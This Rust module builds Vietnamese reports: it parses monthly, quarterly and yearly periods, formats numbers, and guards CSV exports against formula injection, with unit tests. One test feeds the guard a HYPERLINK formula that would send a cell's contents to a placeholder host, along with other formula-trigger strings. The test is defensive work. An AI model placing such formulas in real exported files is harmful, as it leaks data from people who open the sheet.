//! Reports (báo cáo) as the rules ask for them: a unit and its subtree over a calendar month, quarter or year,
//! written as named tables that every output — the printable page, XLSX, CSV — shows alike.

use chrono::{Datelike, NaiveDate};

use super::period::day_number_to_date;

/// The calendar period of a report, in local time.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ReportPeriod {
    /// A month, 1–12.
    Month {
        year: i32,
        month: u32,
    },
    /// A quarter, 1–4.
    Quarter {
        year: i32,
        quarter: u32,
    },
    Year(i32),
}

impl ReportPeriod {
    /// Reads `2026`, `2026-Q4` or `2026-11`; `None` for anything else (the page says so).
    pub fn parse(text: &str) -> Option<ReportPeriod> {
        let text = text.trim();
        let year = |y: &str| {
            let digits = y.len() == 4 && y.bytes().all(|b| b.is_ascii_digit());
            y.parse::<i32>().ok().filter(|y| digits && (2000..=2100).contains(y))
        };
        if text.len() == 4 {
            return year(text).map(ReportPeriod::Year);
        }
        let (y, rest) = text.split_once('-')?;
        let year = year(y)?;
        if let Some(q) = rest.strip_prefix('Q').or_else(|| rest.strip_prefix('q')) {
            let quarter: u32 = q.parse().ok().filter(|q| (1..=4).contains(q))?;
            return (q.len() == 1).then_some(ReportPeriod::Quarter { year, quarter });
        }
        let month: u32 = rest.parse().ok().filter(|m| (1..=12).contains(m))?;
        (rest.len() == 2).then_some(ReportPeriod::Month { year, month })
    }

    /// How `parse` reads it back: `2026`, `2026-Q4`, `2026-11`.
    pub fn key(self) -> String {
        match self {
            ReportPeriod::Month { year, month } => format!("{year:04}-{month:02}"),
            ReportPeriod::Quarter { year, quarter } => format!("{year:04}-Q{quarter}"),
            ReportPeriod::Year(year) => format!("{year:04}"),
        }
    }

    /// As the report's title says it: "tháng 11 năm 2026", "quý IV năm 2026", "năm 2026".
    pub fn title_vi(self) -> String {
        match self {
            ReportPeriod::Month { year, month } => format!("tháng {month} năm {year}"),
            ReportPeriod::Quarter { year, quarter } => format!("quý {} năm {year}", roman(quarter)),
            ReportPeriod::Year(year) => format!("năm {year}"),
        }
    }

    /// As a heading or a choice says it: "Quý IV năm 2026".
    pub fn heading_vi(self) -> String {
        let title = self.title_vi();
        let mut chars = title.chars();
        chars.next().map(|first| first.to_uppercase().chain(chars).collect()).unwrap_or_default()
    }

    pub fn year(self) -> i32 {
        match self {
            ReportPeriod::Month { year, .. } | ReportPeriod::Quarter { year, .. } | ReportPeriod::Year(year) => year,
        }
    }

    /// Its months as rollups number them (`year × 12 + month − 1`), first and last.
    pub fn months(self) -> (i64, i64) {
        let base = i64::from(self.year()) * 12;
        match self {
            ReportPeriod::Month { month, .. } => (base + i64::from(month) - 1, base + i64::from(month) - 1),
            ReportPeriod::Quarter { quarter, .. } => {
                let first = base + 3 * (i64::from(quarter) - 1);
                (first, first + 2)
            }
            ReportPeriod::Year(_) => (base, base + 11),
        }
    }

    /// Its local day numbers, `[first, end)`.
    pub fn days(self) -> (i64, i64) {
        let (first, last) = self.months();
        (first_day_of_month(first), first_day_of_month(last + 1))
    }

    /// The period of the same kind that holds local day `today`.
    pub fn current(self, today: i64) -> ReportPeriod {
        let date = day_number_to_date(today).unwrap_or_default();
        let year = date.year();
        match self {
            ReportPeriod::Month { .. } => ReportPeriod::Month { year, month: date.month() },
            ReportPeriod::Quarter { .. } => ReportPeriod::Quarter { year, quarter: date.month0() / 3 + 1 },
            ReportPeriod::Year(_) => ReportPeriod::Year(year),
        }
    }

    /// The periods a report may be asked for around `today`: this year's and last year's quarters and the years,
    /// and the last twelve months, newest first.
    pub fn recent(today: i64) -> Vec<ReportPeriod> {
        let date = day_number_to_date(today).unwrap_or_default();
        let mut periods = vec![];
        let this_quarter = date.month0() / 3 + 1;
        for (year, last) in [(date.year(), this_quarter), (date.year() - 1, 4)] {
            periods.extend((1..=last).rev().map(|quarter| ReportPeriod::Quarter { year, quarter }));
            periods.push(ReportPeriod::Year(year));
        }
        let month = i64::from(date.year()) * 12 + i64::from(date.month0());
        periods.extend((0..12).map(|back| {
            let m = month - back;
            ReportPeriod::Month { year: m.div_euclid(12) as i32, month: m.rem_euclid(12) as u32 + 1 }
        }));
        periods
    }
}

/// A quarter in Roman numerals, as Vietnamese documents write it: 1 → "I" … 4 → "IV".
pub fn roman(quarter: u32) -> &'static str {
    ["I", "II", "III", "IV"][(quarter.clamp(1, 4) - 1) as usize]
}

fn first_day_of_month(month: i64) -> i64 {
    let epoch = NaiveDate::from_ymd_opt(1970, 1, 1).unwrap_or_default();
    NaiveDate::from_ymd_opt(month.div_euclid(12) as i32, month.rem_euclid(12) as u32 + 1, 1)
        .map_or(0, |date| (date - epoch).num_days())
}

/// One value of a report table.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    Text(String),
    Count(u64),
    /// A percentage 0–100, written with one decimal; `None` when there is none to give (no answers, or too few:
    /// the table's note says which).
    Percent(Option<f64>),
}

/// A named table of a report: one sheet of the workbook, one section of the page and of the CSV.
#[derive(Clone, Debug, PartialEq)]
pub struct Sheet {
    pub title: String,
    pub columns: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
    /// The rule behind the table, said in plain Vietnamese under it.
    pub note: Option<String>,
}

impl Cell {
    /// The cell as Vietnamese readers write numbers: thousands grouped by dots, a decimal comma; a missing
    /// percentage as `text_for_none`.
    pub fn text(&self, text_for_none: &str) -> String {
        match self {
            Cell::Text(text) => text.clone(),
            Cell::Count(n) => grouped(*n),
            Cell::Percent(Some(value)) => format!("{:.1}", (value * 10.0).round() / 10.0).replace('.', ","),
            Cell::Percent(None) => text_for_none.to_owned(),
        }
    }
}

/// `1234567` as `1.234.567`.
pub fn grouped(n: u64) -> String {
    let digits = n.to_string();
    let mut out = String::with_capacity(digits.len() + digits.len() / 3);
    for (i, digit) in digits.chars().enumerate() {
        if i > 0 && (digits.len() - i).is_multiple_of(3) {
            out.push('.');
        }
        out.push(digit);
    }
    out
}

/// A text cell as a CSV may carry it: one that a spreadsheet would read as a formula (it starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return) gets a leading apostrophe, as OWASP's guidance on CSV injection says, so a
/// citizen's `=HYPERLINK(…)` is shown, never run. Every text the application writes into a CSV goes through here.
pub fn spreadsheet_text(text: &str) -> std::borrow::Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}").into(),
        _ => text.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_text_that_a_spreadsheet_would_run_is_written_as_text() {
        for formula in ["=HYPERLINK(\"http://x/?\"&A1,\"xem\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
            assert_eq!(spreadsheet_text(formula), format!("'{formula}"), "{formula:?}");
        }
        for plain in ["Chờ lâu = mất thời gian", "Rất tốt", "", "'đã có dấu"] {
            assert_eq!(spreadsheet_text(plain), plain, "{plain:?}");
        }
    }

    fn day(y: i32, m: u32, d: u32) -> i64 {
        (NaiveDate::from_ymd_opt(y, m, d).unwrap() - NaiveDate::from_ymd_opt(1970, 1, 1).unwrap()).num_days()
    }

    #[test]
    fn periods_are_read_as_written_and_written_as_read() {
        for key in ["2026", "2026-Q1", "2026-Q4", "2026-01", "2026-11"] {
            assert_eq!(ReportPeriod::parse(key).map(|p| p.key()).as_deref(), Some(key));
        }
        assert_eq!(ReportPeriod::parse("2026-q3"), Some(ReportPeriod::Quarter { year: 2026, quarter: 3 }));
        for bad in ["", "26", "2026-Q5", "2026-Q0", "2026-13", "2026-1", "2026-Q", "1999", "abcd", "2026-Q12"] {
            assert_eq!(ReportPeriod::parse(bad), None, "{bad}");
        }
    }

    #[test]
    fn a_period_is_its_calendar_days() {
        let q4 = ReportPeriod::Quarter { year: 2026, quarter: 4 };
        assert_eq!(q4.days(), (day(2026, 10, 1), day(2027, 1, 1)));
        assert_eq!(q4.months(), (2026 * 12 + 9, 2026 * 12 + 11));
        assert_eq!(q4.title_vi(), "quý IV năm 2026");
        assert_eq!(q4.heading_vi(), "Quý IV năm 2026");
        let february = ReportPeriod::Month { year: 2028, month: 2 };
        assert_eq!(february.days().1 - february.days().0, 29, "2028 is a leap year");
        assert_eq!(ReportPeriod::Year(2026).days().1 - ReportPeriod::Year(2026).days().0, 365);
        assert_eq!(ReportPeriod::Year(2026).title_vi(), "năm 2026");
    }

    #[test]
    fn the_recent_periods_start_with_this_quarter() {
        let today = day(2026, 11, 25);
        let recent = ReportPeriod::recent(today);
        assert_eq!(recent[0], ReportPeriod::Quarter { year: 2026, quarter: 4 });
        assert!(recent.contains(&ReportPeriod::Year(2025)));
        assert!(recent.contains(&ReportPeriod::Month { year: 2025, month: 12 }));
        assert_eq!(ReportPeriod::Year(2020).current(today), ReportPeriod::Year(2026));
        assert_eq!(
            ReportPeriod::Month { year: 2020, month: 1 }.current(today),
            ReportPeriod::Month { year: 2026, month: 11 }
        );
    }

    #[test]
    fn cells_are_written_with_a_decimal_comma_and_grouped_thousands() {
        assert_eq!(Cell::Percent(Some(87.25)).text("–"), "87,3");
        assert_eq!(Cell::Percent(None).text("chưa đủ mẫu"), "chưa đủ mẫu");
        assert_eq!(Cell::Count(12).text(""), "12");
        assert_eq!(Cell::Count(3_047).text(""), "3.047");
        assert_eq!(Cell::Count(1_234_567).text(""), "1.234.567");
        assert_eq!(Cell::Count(100).text(""), "100");
    }
}
